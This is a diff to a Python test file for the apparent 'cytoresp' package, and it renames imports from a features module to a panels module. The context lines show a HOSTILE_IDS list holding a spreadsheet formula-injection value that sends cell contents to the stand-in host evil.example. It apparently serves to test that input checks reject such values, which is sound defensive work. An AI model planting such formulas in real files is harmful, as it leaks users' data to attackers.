@@ -12,7 +12,7 @@ import pytest
 
 from cytoresp.cli import main
 from cytoresp.errors import InputError, UsageError
-from cytoresp.features.limits import InputLimits, check_input, read_limited
+from cytoresp.panels.limits import InputLimits, check_input, read_limited
 
 HOSTILE_IDS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -128,7 +128,7 @@ def test_ordinary_files_pass(tmp_path, data):
 
 def test_line_length_across_read_blocks(tmp_path, monkeypatch):
     """A long line split between two read blocks is measured whole."""
-    import cytoresp.features.limits as limits_mod
+    import cytoresp.panels.limits as limits_mod
 
     monkeypatch.setattr(limits_mod, "_BLOCK", 64)
     ok = b"a,b\n" + b"1,2\n" * 100
